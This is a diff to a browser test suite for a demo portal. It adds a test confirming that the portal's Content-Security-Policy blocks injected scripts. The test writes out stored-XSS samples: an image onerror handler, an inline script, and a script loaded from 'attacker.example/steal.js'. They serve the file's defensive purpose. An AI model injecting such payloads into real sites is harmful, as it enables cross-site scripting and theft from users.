@@ -63,7 +63,14 @@ async function newContext(): Promise<BrowserContext> {
   const context = await browser.newContext();
   // tsx's keepNames wraps named functions passed to page.evaluate in `__name(...)`: give pages one.
   await context.addInitScript('window.__name = (fn) => fn;');
-  context.on('page', (page) => page.on('pageerror', (error) => pageErrors.push(`${page.url()}: ${error.message}`)));
+  context.on('page', (page) => {
+    page.on('pageerror', (error) => pageErrors.push(`${page.url()}: ${error.message}`));
+    // The pages are served with a strict Content-Security-Policy: anything the kit needs that it
+    // refuses shows up here (Chromium reports each refusal on the console).
+    page.on('console', (message) => {
+      if (/Content Security Policy/i.test(message.text())) pageErrors.push(`${page.url()}: ${message.text()}`);
+    });
+  });
   return context;
 }
 
@@ -246,12 +253,13 @@ describe('demo portal: entity lists follow the table permissions', () => {
 describe('demo portal: pages', () => {
   it('have no axe violations (home anonymous, incidents as sam)', async () => {
     const context = await newContext();
+    // Injected by the browser, not as a <script> the page's policy would (rightly) refuse.
+    await context.addInitScript({ content: axeSource });
     try {
       const page = await context.newPage();
       await page.goto(`${portal.url}/`);
       await decision(page, '#teaser-incidents', 'denied');
       const violations = async (): Promise<string[]> => {
-        await page.addScriptTag({ content: axeSource });
         return page.evaluate(async () => {
           type Axe = { run(context: Document, options: object): Promise<{ violations: { id: string; nodes: { target: unknown }[] }[] }> };
           const axe = (window as unknown as { axe: Axe }).axe;
@@ -266,6 +274,45 @@ describe('demo portal: pages', () => {
       await page.goto(`${portal.url}/incidents/`);
       await page.locator('#incidents[status="ready"]').waitFor({ state: 'attached', timeout: 15_000 });
       assert.deepEqual(await violations(), []);
+    } finally {
+      await context.close();
+    }
+  });
+
+  it('run no script a page did not load from its own origin (Content-Security-Policy), while the kit works', async () => {
+    // Not newContext(): the refusals provoked here are the point, not errors of the kit.
+    const context = await browser.newContext();
+    await context.addInitScript('window.__name = (fn) => fn;');
+    try {
+      const page = await context.newPage();
+      const refused: string[] = [];
+      page.on('console', (message) => {
+        if (/Content Security Policy/i.test(message.text())) refused.push(message.text());
+      });
+      await page.goto(`${portal.url}/`);
+      await decision(page, '#teaser-incidents', 'denied');
+      // What a stored-XSS bug would inject: an inline handler, an inline script, a script from elsewhere.
+      const ran = await page.evaluate(async () => {
+        const w = window as unknown as Record<string, unknown>;
+        const violations: string[] = [];
+        document.addEventListener('securitypolicyviolation', (event) => violations.push(event.violatedDirective));
+        document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.__pwnedByHandler = 1" alt="">');
+        const inline = document.createElement('script');
+        inline.textContent = 'window.__pwnedByScript = 1';
+        document.body.append(inline);
+        const remote = document.createElement('script');
+        remote.src = 'https://attacker.example/steal.js';
+        document.body.append(remote);
+        await new Promise((resolve) => setTimeout(resolve, 300));
+        return { handler: w['__pwnedByHandler'], script: w['__pwnedByScript'], violations };
+      });
+      assert.equal(ran.handler, undefined);
+      assert.equal(ran.script, undefined);
+      assert.ok(ran.violations.length >= 3, `refusals reported: ${JSON.stringify(ran.violations)}`);
+      assert.ok(refused.length >= 1);
+      // The kit itself (a module script and lazy chunks from this origin) still signs in and decides.
+      await signIn(page, 'paul');
+      await decision(page, '#teaser-partners', 'allowed');
     } finally {
       await context.close();
     }
